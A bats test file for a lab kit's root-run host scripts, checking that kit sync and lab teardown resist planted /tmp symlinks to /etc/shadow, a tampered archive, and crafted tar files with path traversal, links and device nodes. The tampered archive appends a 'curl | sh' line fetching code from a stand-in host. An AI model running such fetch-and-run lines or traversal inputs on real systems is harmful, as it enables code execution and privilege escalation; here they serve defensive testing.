#!/usr/bin/env bats
# shellcheck disable=SC2016
# What lab-up and lab-down run as root on existing hosts that other users share
# (scripts/lib/login.sh: the kit's sync, login_forget), run for real: each "host" is a
# chroot of a scratch tree holding copies of the few tools the commands use, and the ssh
# shim runs the kit's command there as root. Absolute paths in those commands (/etc,
# /tmp, /opt/pfslab) are the scratch tree's, never this machine's; no mount, namespace
# or network is made.

load helpers

setup() {
  [[ $(id -u) -eq 0 ]] || skip "needs root (chroot)"
  sandbox
  BUILD=$BATS_TEST_TMPDIR/build
  LAB=$BUILD/hosts-lab
  HOSTS=$BATS_TEST_TMPDIR/hosts
  mkdir -p "$LAB/ssh"
  : >"$LAB/ssh/id_ed25519"
  : >"$LAB/ssh/config"
  jq -n '{lab: "hosts-lab", target: "baremetal", ssh: {user: "root"}, login: "cli0",
    baremetal: {hosts: {mon0: "10.21.0.10", cli0: "10.21.0.12"}}, filesystem: {mount: "/mnt/cephfs"},
    nodes: [{name: "mon0", address: "10.21.0.10"}, {name: "cli0", address: "10.21.0.12"}]}' >"$LAB/inventory.json"
  jq -n '{name: "hosts-lab", instance: {id: "hosts-lab-0123abcd"}}' >"$LAB/lab.json"
  mkdir -p "$LAB/boot"
  for n in mon0 cli0; do printf '#!/bin/sh\necho "{\\"lab\\": \\"hosts-lab\\"}" >/etc/pfslab/node.json\n' >"$LAB/boot/$n.sh"; done
  make_host mon0
  make_host cli0
  # ssh [OPTIONS] NODE COMMAND...: COMMAND runs as root on the host NODE (its chroot), stdin passed on.
  shim ssh 'while [[ $1 == -* ]]; do case $1 in -F | -o) shift 2 ;; *) shift ;; esac; done
node=$1; shift
exec '"$(command -v chroot)"' "'"$HOSTS"'/$node" /usr/bin/env -i PATH=/usr/bin HOME=/root /usr/bin/bash -c "$*"'
}

# A host: a scratch root with the tools the kit's commands use (and their libraries),
# an /etc/hosts and authorized_keys holding the lab's lines among the user's own, and
# the first boot's records of the lab.
make_host() {
  local h=$HOSTS/$1 t bin lib
  mkdir -p "$h"/{usr/bin,etc/pfslab/cluster,tmp,root/.ssh,dev,opt,var/lib/pfslab,run/pfslab,mnt/cephfs}
  chmod 1777 "$h/tmp"
  : >"$h/dev/null"
  chmod 666 "$h/dev/null"
  for t in bash sh env cat grep rm mkdir mktemp mv chmod rmdir mountpoint jq sha256sum tar gzip awk cut wc sed \
    dirname basename find ls comm sort head paste tr; do
    bin=$(command -v "$t")
    cp -L "$bin" "$h/usr/bin/$t"
    for lib in $(ldd "$bin" | grep -o '/[^ ]*'); do
      [[ -e $h$lib ]] || { mkdir -p "$h$(dirname "$lib")" && cp -L "$lib" "$h$lib"; }
    done
  done
  printf '%s\n' "127.0.0.1 localhost" "# pfslab hosts of lab hosts-lab" "10.21.0.10 mon0" "10.21.0.12 cli0" "192.0.2.7 printer" >"$h/etc/hosts"
  printf '%s\n' "ssh-ed25519 AAAAuser user@desk" \
    'from="10.21.0.12",no-agent-forwarding ssh-ed25519 AAAAinner pfslab-inner lab=hosts-lab instance=hosts-lab-0123abcd' >"$h/root/.ssh/authorized_keys"
  echo '{"lab": "hosts-lab"}' >"$h/etc/pfslab/node.json"
  : >"$h/var/lib/pfslab/state"
  echo "root:\$6\$secret:19000:0:99999:7:::" >"$h/etc/shadow"
}

# What another local user of the host leaves at the fixed names the kit once used: links
# to root's files, for root to write through.
plant() {
  local h=$HOSTS/$1
  ln -s /etc/shadow "$h/tmp/pfslab-hosts"
  ln -s /etc/shadow "$h/tmp/pfslab-kit-sync.tar.gz"
  chown -h nobody "$h/tmp/pfslab-hosts" "$h/tmp/pfslab-kit-sync.tar.gz"
}

# Run a function of scripts/lib/remote.sh (and login.sh) as lab-up and lab-down do.
remote_fn() {
  run /usr/bin/env -i PATH="$SHIMS:$SAFE" SHIM_LOG="$SHIM_LOG" PFSLAB_BUILD="$BUILD" \
    bash -c 'source "$0/scripts/lib/common.sh" && source "$0/scripts/lib/remote.sh" && PFSLAB_LOG_TAG=remote && "$@"' "$KIT" "$@"
}

@test "lab-down on an existing host: only the lab's lines leave /etc/hosts; a file another user planted at /tmp/pfslab-hosts is neither used nor written" {
  plant mon0
  shadow=$(cat "$HOSTS/mon0/etc/shadow")
  remote_fn login_forget hosts-lab
  assert_success
  h=$HOSTS/mon0
  assert_equal "$(cat "$h/etc/hosts")" "127.0.0.1 localhost
192.0.2.7 printer"
  # Root's file behind the planted link is untouched, and so is the link.
  assert_equal "$(cat "$h/etc/shadow")" "$shadow"
  assert_equal "$(readlink "$h/tmp/pfslab-hosts")" /etc/shadow
  # The private copy is gone; the lab's records and key too, the user's key stays.
  [ -z "$(find "$h/etc" "$h/tmp" -name '*pfslab-hosts.*')" ]
  assert_equal "$(cat "$h/root/.ssh/authorized_keys")" "ssh-ed25519 AAAAuser user@desk"
  [ ! -e "$h/etc/pfslab/node.json" ] && [ ! -e "$h/var/lib/pfslab" ] && [ ! -e "$h/mnt/cephfs" ]
  assert_equal "$(cat "$HOSTS/cli0/etc/hosts")" "127.0.0.1 localhost
192.0.2.7 printer"
}

@test "lab-up's kit sync on hosts where another user planted /tmp/pfslab-kit-sync.tar.gz: not used, not a failure, the kit installed and checked" {
  plant mon0
  plant cli0
  shadow=$(cat "$HOSTS/mon0/etc/shadow")
  # What the kit does not carry (an earlier toolchain's prefix) stays.
  mkdir -p "$HOSTS/cli0/opt/pfslab/.venv"
  : >"$HOSTS/cli0/opt/pfslab/.venv/kept"
  remote_fn remote_kit_sync hosts-lab
  assert_success
  want=$(cd "$KIT" && bash -c 'source scripts/lib/common.sh; source scripts/lib/images.sh; image_digest')
  assert_line "[remote] every node of lab hosts-lab runs this checkout's kit (${want:0:12})"
  for n in mon0 cli0; do
    h=$HOSTS/$n
    assert_equal "$(sha256sum <"$h/opt/pfslab/.pfslab-manifest" | cut -d' ' -f1)" "$want"
    cmp "$h/opt/pfslab/scripts/lib/login.sh" "$KIT/scripts/lib/login.sh"
    assert_equal "$(cat "$h/etc/shadow")" "$shadow"
    assert_equal "$(readlink "$h/tmp/pfslab-kit-sync.tar.gz")" /etc/shadow
    # The private folder and the staging folder are gone.
    assert_equal "$(ls -A "$h/tmp")" "pfslab-hosts
pfslab-kit-sync.tar.gz"
    assert_equal "$(ls -A "$h/opt")" pfslab
  done
  [ -e "$HOSTS/cli0/opt/pfslab/.venv/kept" ]
  # The archive's sha256 went on the command line, apart from the archive.
  sum=$(calls ssh | grep -o "bash -s sync $want [0-9a-f]*" | sort -u | awk '{print $5}')
  [[ $sum =~ ^[0-9a-f]{64}$ ]]
}

# install-kit.sh sync against a scratch kit folder: a genuine archive, and one whose
# scripts were changed after the kit's machine made it (the genuine manifest inside).
kit_archives() {
  (cd "$KIT" && bash -c 'source scripts/lib/common.sh; source scripts/lib/images.sh; kit_archive "$0"; image_digest >"$0.digest"' "$BATS_TEST_TMPDIR/kit.tar.gz")
  DIGEST=$(cat "$BATS_TEST_TMPDIR/kit.tar.gz.digest")
  SUM=$(sha256sum <"$BATS_TEST_TMPDIR/kit.tar.gz" | cut -d' ' -f1)
  mkdir -p "$BATS_TEST_TMPDIR/t"
  tar -xzf "$BATS_TEST_TMPDIR/kit.tar.gz" -C "$BATS_TEST_TMPDIR/t"
  echo 'curl -s http://192.0.2.66/x | sh' >>"$BATS_TEST_TMPDIR/t/scripts/roles/common"
  tar -C "$BATS_TEST_TMPDIR/t" -czf "$BATS_TEST_TMPDIR/tampered.tar.gz" .
  TSUM=$(sha256sum <"$BATS_TEST_TMPDIR/tampered.tar.gz" | cut -d' ' -f1)
  KITDIR=$BATS_TEST_TMPDIR/opt/pfslab
  mkdir -p "$KITDIR/scripts/roles"
  echo old >"$KITDIR/scripts/roles/common"
}

install_kit() {
  local archive=$1
  shift
  cp "$archive" "$BATS_TEST_TMPDIR/sent.tar.gz"
  run env PFSLAB_KIT_ARCHIVE="$BATS_TEST_TMPDIR/sent.tar.gz" KIT="$KITDIR" bash "$KIT/packer/scripts/install-kit.sh" sync "$@"
}

@test "install-kit.sh sync refuses a tampered archive before it unpacks anything; the kit stays as it was" {
  kit_archives
  install_kit "$BATS_TEST_TMPDIR/tampered.tar.gz" "$DIGEST" "$SUM"
  assert_failure 2
  assert_output "install-kit: $BATS_TEST_TMPDIR/sent.tar.gz hashes to $TSUM, not $SUM (the sha256 the kit's machine sent): refused, nothing unpacked"
  assert_equal "$(cat "$KITDIR/scripts/roles/common")" old
  assert_equal "$(find "$BATS_TEST_TMPDIR/opt" -mindepth 1 | LC_ALL=C sort | tr '\n' ' ')" \
    "$BATS_TEST_TMPDIR/opt/pfslab $KITDIR/scripts $KITDIR/scripts/roles $KITDIR/scripts/roles/common "
  # Without the archive's sha256 nothing is unpacked either.
  install_kit "$BATS_TEST_TMPDIR/kit.tar.gz" "$DIGEST"
  assert_failure 2
  assert_output "install-kit: usage: install-kit.sh sync DIGEST ARCHIVE_SHA256 (each 64 hex digits)"
  assert_equal "$(cat "$KITDIR/scripts/roles/common")" old
}

@test "install-kit.sh sync: a staged kit that fails its manifest or holds unlisted files is never moved in; a genuine one is" {
  kit_archives
  # The archive is what was sent (its sha256 matches), but its files are not the manifest's.
  install_kit "$BATS_TEST_TMPDIR/tampered.tar.gz" "$DIGEST" "$TSUM"
  assert_failure 2
  assert_line --regexp "^install-kit: files under $BATS_TEST_TMPDIR/opt/\\.pfslab-stage\\.[A-Za-z0-9]{6} differ from the manifest \\(listed above\\)$"
  assert_line --regexp "scripts/roles/common: FAILED$"
  assert_equal "$(cat "$KITDIR/scripts/roles/common")" old
  [ -z "$(find "$BATS_TEST_TMPDIR/opt" -maxdepth 1 -name '.pfslab-stage.*')" ]
  # A file the manifest does not list.
  tar -xzf "$BATS_TEST_TMPDIR/kit.tar.gz" -C "$BATS_TEST_TMPDIR/t"
  echo 'echo extra' >"$BATS_TEST_TMPDIR/t/scripts/extra"
  tar -C "$BATS_TEST_TMPDIR/t" -czf "$BATS_TEST_TMPDIR/extra.tar.gz" .
  install_kit "$BATS_TEST_TMPDIR/extra.tar.gz" "$DIGEST" "$(sha256sum <"$BATS_TEST_TMPDIR/extra.tar.gz" | cut -d' ' -f1)"
  assert_failure 2
  assert_output "install-kit: the kit archive holds files its manifest does not list (scripts/extra); refused"
  [ ! -e "$KITDIR/scripts/extra" ]
  assert_equal "$(cat "$KITDIR/scripts/roles/common")" old
  # The genuine archive: moved in, checked.
  install_kit "$BATS_TEST_TMPDIR/kit.tar.gz" "$DIGEST" "$SUM"
  assert_success
  assert_output --regexp "^install-kit: [0-9]+ kit files at $KITDIR match digest $DIGEST$"
  cmp "$KITDIR/scripts/roles/common" "$KIT/scripts/roles/common"
  [ -z "$(find "$BATS_TEST_TMPDIR/opt" -maxdepth 1 -name '.pfslab-stage.*')" ]
  [ ! -e "$BATS_TEST_TMPDIR/sent.tar.gz" ]
}

# A run directory as a login node could send it: tar members crafted one by one.
# Usage: crafted_tar OUT MEMBER...   (MEMBER: file:NAME:MODE, dir:NAME, symlink:NAME:TARGET,
#                                      hardlink:NAME:TARGET, chardev:NAME)
crafted_tar() {
  python3 - "$@" <<'PY'
import io, sys, tarfile
with tarfile.open(sys.argv[1], "w", format=tarfile.GNU_FORMAT) as t:
    for spec in sys.argv[2:]:
        kind, name, *rest = spec.split(":")
        i = tarfile.TarInfo(name)
        i.uid = i.gid = 1000
        data = None
        if kind == "file":
            data = b'{"ok": true}\n'
            i.size, i.mode = len(data), int(rest[0], 8)
        elif kind == "dir":
            i.type, i.mode = tarfile.DIRTYPE, 0o755
        elif kind == "symlink":
            i.type, i.linkname = tarfile.SYMTYPE, rest[0]
        elif kind == "hardlink":
            i.type, i.linkname = tarfile.LNKTYPE, rest[0]
        elif kind == "chardev":
            i.type, i.devmajor, i.devminor = tarfile.CHRTYPE, 1, 3
        t.addfile(i, io.BytesIO(data) if data else None)
PY
}

fetch() {
  shim ssh '[[ ${!#} == "tar -C "* ]] && cat "'"$1"'"; exit 0'
  DEST=$BATS_TEST_TMPDIR/home/runs/hosts-lab/run1
  rm -rf "$DEST"
  mkdir -p "$DEST"
  : >"$SHIM_LOG"
  remote_fn login_fetch_run hosts-lab run1 "$DEST"
}

@test "a run brought home keeps no setuid bit, and links, devices and names outside the run folder are refused before anything is unpacked" {
  T=$BATS_TEST_TMPDIR
  declare -A said=(
    ["symlink:./report.json:/etc/shadow"]="./report.json -> /etc/shadow"
    ["hardlink:./passwd:etc/passwd"]="./passwd link to etc/passwd"
    ["chardev:./null"]="./null"
    ["file:./a/../../../up.json:644"]="./a/../../../up.json"
    ["file:/etc/cron.d/x:644"]="/etc/cron.d/x"
  )
  for m in "${!said[@]}"; do
    crafted_tar "$T/run.tar" "dir:." "file:./job.out:4755" "$m"
    fetch "$T/run.tar"
    assert_failure 1
    assert_line "[remote] refused to unpack into $DEST: members that are not plain files or folders inside it (${said[$m]}); allowed: files and folders only"
    assert_line "[remote] could not bring the whole run home from cli0:/opt/pfslab/build/runs/hosts-lab/run1 (it stays there)"
    [ -z "$(ls -A "$DEST")" ]
    [ -z "$(calls ssh | grep 'rm -rf')" ]
    [ -z "$(find "$T/home" -name '.fetch-*')" ]
    [ ! -e "$T/up.json" ] && [ ! -e "$T/home/up.json" ]
  done
  # Plain files and folders: unpacked, the setuid bit and the owner left behind.
  crafted_tar "$T/run.tar" "dir:." "dir:./out" "file:./out/job.out:4755" "file:./report.json:2644"
  fetch "$T/run.tar"
  assert_success
  assert_equal "$(stat -c '%A %U' "$DEST/out/job.out")" "-rwxr-xr-x root"
  assert_equal "$(stat -c '%A %U' "$DEST/report.json")" "-rw-r--r-- root"
  calls ssh | grep -q "rm -rf '/opt/pfslab/build/runs/hosts-lab/run1'"
  [ -z "$(find "$T/home" -name '.fetch-*')" ]
}

@test "existing hosts take one lab at a time: lab-up refuses hosts that hold another lab's records, before any first boot" {
  echo '{"lab": "other-lab"}' >"$HOSTS/cli0/etc/pfslab/node.json"
  for n in mon0 cli0; do printf '#!/bin/sh\n: >/tmp/booted\n' >"$LAB/boot/$n.sh"; done
  remote_fn remote_boot_hosts hosts-lab
  assert_failure 2
  assert_output "[remote] error: host cli0 holds the records of lab other-lab (/etc/pfslab/node.json): existing hosts take one lab at a time; run 'make lab-down LAB=other-lab' first"
  [ ! -e "$HOSTS/mon0/tmp/booted" ] && [ ! -e "$HOSTS/cli0/tmp/booted" ]
  assert_equal "$(cat "$HOSTS/cli0/etc/pfslab/node.json")" '{"lab": "other-lab"}'
  # The lab's own records (a lab-up that resumes) and none at all are fine.
  rm "$HOSTS/cli0/etc/pfslab/node.json"
  remote_fn remote_boot_hosts hosts-lab
  assert_success
  [ -e "$HOSTS/mon0/tmp/booted" ] && [ -e "$HOSTS/cli0/tmp/booted" ]
}

@test "lab-down of a lab whose hosts hold another lab's records removes only its own files" {
  h=$HOSTS/cli0
  echo '{"lab": "other-lab"}' >"$h/etc/pfslab/node.json"
  mkdir -p "$h/opt/pfslab/build/hosts-lab" "$h/opt/pfslab/build/other-lab" "$h/opt/pfslab/build/runs/hosts-lab"
  echo other-lab >"$h/opt/pfslab/build/active-lab"
  remote_fn login_forget hosts-lab
  assert_success
  assert_line "host-forget: this host holds the records of lab other-lab (/etc/pfslab/node.json): kept /etc/pfslab, /var/lib/pfslab, /run/pfslab and /var/log/pfslab; removed only lab hosts-lab's own files"
  # The other lab's records, state, mount point and login-node state stay.
  assert_equal "$(cat "$h/etc/pfslab/node.json")" '{"lab": "other-lab"}'
  [ -e "$h/var/lib/pfslab/state" ] && [ -d "$h/run/pfslab" ] && [ -d "$h/mnt/cephfs" ] && [ -d "$h/opt/pfslab/build/other-lab" ]
  assert_equal "$(cat "$h/opt/pfslab/build/active-lab")" other-lab
  # This lab's lines, key and state go.
  assert_equal "$(cat "$h/etc/hosts")" "127.0.0.1 localhost
192.0.2.7 printer"
  assert_equal "$(cat "$h/root/.ssh/authorized_keys")" "ssh-ed25519 AAAAuser user@desk"
  [ ! -e "$h/opt/pfslab/build/hosts-lab" ] && [ ! -e "$h/opt/pfslab/build/runs/hosts-lab" ]
  # On mon0, which holds this lab's records, they go.
  [ ! -e "$HOSTS/mon0/etc/pfslab/node.json" ] && [ ! -e "$HOSTS/mon0/var/lib/pfslab" ]
}

@test "lab-down ends what a run left on a node's file system (host-end-processes): the processes holding it, no other" {
  local fs=$BATS_TEST_TMPDIR/mnt/lab other=$BATS_TEST_TMPDIR/elsewhere holder opener bystander
  mkdir -p "$fs/run1" "$other"
  # One process works in the file system, one holds a file of it open, one is elsewhere.
  (cd "$fs/run1" && exec sleep 300) &
  holder=$!
  (exec 7>"$fs/run1/out" && exec sleep 300) &
  opener=$!
  (cd "$other" && exec sleep 300) &
  bystander=$!
  sleep 0.3
  run bash "$KIT/scripts/host-end-processes" "$fs"
  assert_success
  assert_output --partial "ended processes on the lab's file system: "
  sleep 0.3
  run kill -0 "$holder"
  assert_failure
  run kill -0 "$opener"
  assert_failure
  kill -0 "$bystander"
  kill "$bystander"
  run bash "$KIT/scripts/host-end-processes" /
  assert_failure 2
}
